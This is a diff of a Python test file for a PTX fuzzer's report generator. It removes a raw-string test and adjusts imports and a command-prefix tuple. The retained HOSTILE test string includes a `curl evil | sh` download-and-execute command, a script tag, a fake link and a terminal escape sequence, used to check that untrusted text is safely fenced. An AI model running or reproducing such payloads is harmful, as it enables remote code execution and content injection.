@@ -19,7 +19,7 @@ from corpus.finding import OracleVerdict
 from corpus.programs import unpack
 from fuzz.explain.document import Document, Facts, Grid, Line, Listing, escaped, fenced
 from fuzz.explain.facts import ValueFacts
-from fuzz.explain.folder import _raw, reproduction
+from fuzz.explain.folder import reproduction
 from fuzz.explain.listing import Way
 from fuzz.explain.page import page_of
 from fuzz.explain.values import shown
@@ -43,7 +43,7 @@ PROGRAMS = {
     "rows": row_load(ldmatrix_form("ldmatrix.sync.aligned.m8n8.x2.shared.b16")),
 }
 HOSTILE = "x\n## Run this\n`curl evil | sh` [click](http://evil) <script> ```\x1b]0;x\x07"
-COMMAND = ("warpfuzz ", "ptxas -arch")
+COMMAND = ("warpfuzz ", "ptxas -arch", "a kernel of ")
 
 
 def printed(document: Document, width: int = 100) -> list[str]:
@@ -187,15 +187,6 @@ def test_what_a_stranger_wrote_gives_a_page_no_structure() -> None:
     first, *body, last = fenced(HOSTILE)
     assert first == last == "````"
     assert "\x1b" not in "".join(body)
-
-
-@pytest.mark.parametrize("text", ["", ')PTX"', ')PTX0")PTX")PTX1"' * 3, ')PTX____________"'])
-def test_a_raw_string_ends_where_its_text_does(text: str) -> None:
-    literal = _raw(text)
-    found = re.fullmatch(r'R"([^ ()\\\t\v\f\n]{1,16})\((.*)\)\1"', literal, re.DOTALL)
-    assert found is not None
-    assert found[2] == text
-    assert f'){found[1]}"' not in text
 
 
 def test_values_that_have_no_room_stand_below_their_instruction() -> None:
